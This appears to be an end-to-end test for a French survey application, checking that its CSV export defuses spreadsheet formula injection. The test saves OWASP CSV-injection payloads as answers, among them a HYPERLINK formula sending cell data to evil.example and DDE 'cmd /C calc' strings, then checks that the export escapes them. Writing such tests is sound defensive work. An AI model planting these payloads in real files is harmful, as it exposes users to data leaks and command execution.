import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import type { Database$ } from '../../../db/connection';
import { openTestDatabase } from '../../../testing/testDb';
import { DEMO, testClient } from '../../../testing/http';
import { DEMO_CENTRE } from '../../../domain/demo/structures';
import { readAnswerTable } from '../../../app/files/answerTableFile';

/**
 * Issue 13, formulas in CSV downloads, end to end: the OWASP CSV-injection payloads typed as free-text
 * answers, saved through the API, come out of the correspondent's CSV export guarded (a leading apostrophe,
 * read by spreadsheets as "text"), while numbers stay numbers; re-reading the file gives the text typed.
 */

const PAYLOADS: Record<string, string> = {
  'projet.axe.1': '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  'projet.axe.2': "+cmd|' /C calc'!A0",
  'projet.axe.3': '-2+3',
  'projet.axe.4': "@SUM(1+1)*cmd|' /C calc'!A0",
  'projet.axe.5': '\t=1+1',
  'projet.preoccupation_territoire': '\r=1+1',
  'projet.preoccupation_centre': '=1+1\nsur deux lignes',
  'projet.participation_modalites': '\uFF1D1+1',
};
/** What a spreadsheet would run as a formula: a cell starting with one of these (a plain number excepted). */
const FORMULA = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

let database: Database$;
let client: ReturnType<typeof testClient>;

beforeAll(async () => {
  database = await openTestDatabase();
  client = testClient(database);
});
afterAll(() => database.close());

const json = (method: string, headers: Record<string, string>, body?: unknown): RequestInit =>
  ({ method, headers: { 'content-type': 'application/json', ...headers }, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });

describe('formulas in the responses CSV', () => {
  it('every OWASP payload saved as an answer is guarded in GET /api/campaigns/:year/responses/export?format=csv; numbers stay numbers', async () => {
    const [team, caf] = await Promise.all([client.loginAs(DEMO.team), client.loginAs(DEMO.caf69)]);
    const centre = (await database.db.selectFrom('structures').select(['id', 'siret']).where('name', '=', DEMO_CENTRE.name).executeTakeFirstOrThrow());
    const opened = await client.request(`/api/structures/${centre.id}/campaigns/2025/response`, json('POST', team));
    expect(opened.status).toBe(200);
    const responseId = (await opened.json()).responseId as number;
    const current = (await (await client.request(`/api/responses/${responseId}`, { headers: team })).json()) as { answers: { code: string; version: number }[] };
    for (const [code, value] of Object.entries(PAYLOADS)) {
      const baseVersion = current.answers.find((a) => a.code === code)?.version ?? 0;
      const saved = await client.request(`/api/responses/${responseId}/answers/${code}`, json('PUT', team, { value, baseVersion }));
      expect(saved.status, `${code}: ${await saved.clone().text()}`).toBe(200);
    }
    const benevoles = (await (await client.request(`/api/responses/${responseId}`, { headers: team })).json()).answers.find((a: { code: string }) => a.code === 'participation.benevoles');
    expect((await client.request(`/api/responses/${responseId}/answers/participation.benevoles`, json('PUT', team, { value: 61, baseVersion: benevoles?.version ?? 0 }))).status).toBe(200);

    const res = await client.request('/api/campaigns/2025/responses/export?level=departement&code=69&format=csv', { headers: caf });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
    const grid = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    const [header, ...rows] = grid;
    const row = rows.find((r) => r[0] === centre.siret)!;
    expect(row).toBeDefined();
    for (const [code, value] of Object.entries(PAYLOADS)) {
      expect(row[header.indexOf(code)], code).toBe(`'${value}`);
    }
    expect(row[header.indexOf('participation.benevoles')]).toBe('61');
    // Every cell of the whole file: none starts a formula, unless it is a plain number.
    const unsafe = grid.flat().filter((c) => FORMULA.test(c) && !NUMBER.test(c));
    expect(unsafe).toEqual([]);
    // Read back by the import, the guard is gone: the text typed.
    const back = await readAnswerTable(bytes);
    const mine = back.rows.find((r) => r.cells[0] === centre.siret)!;
    for (const [code, value] of Object.entries(PAYLOADS)) expect(mine.cells[back.columns.indexOf(code)], code).toBe(value);
  });
});
